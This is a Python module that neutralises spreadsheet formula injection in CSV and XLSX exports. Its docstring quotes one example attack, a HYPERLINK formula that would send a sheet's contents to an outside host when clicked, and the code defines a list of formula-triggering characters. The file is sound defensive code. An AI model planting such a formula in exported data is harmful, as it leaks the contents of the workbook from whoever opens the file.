"""Cells written from data are text, never formulas.

An office opens the workbooks and CSV files this product writes. A cell that starts with `=` is a formula
to openpyxl (it writes it as one) and to Excel or LibreOffice opening a CSV, which also run cells starting
with `+`, `-`, `@`, a tab or a carriage return: an uploaded `=HYPERLINK("http://…?d="&A2)` would send the
sheet's contents away when someone clicks it (OWASP, "CSV injection"). XLSX cells are typed as strings, so
the text reads exactly as written; a CSV has no types, so such a cell gets OWASP's leading apostrophe.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A write-only sheet's row in which no string is a formula (only `=` makes one in openpyxl)."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"
            value = cell
        row.append(value)
    return row
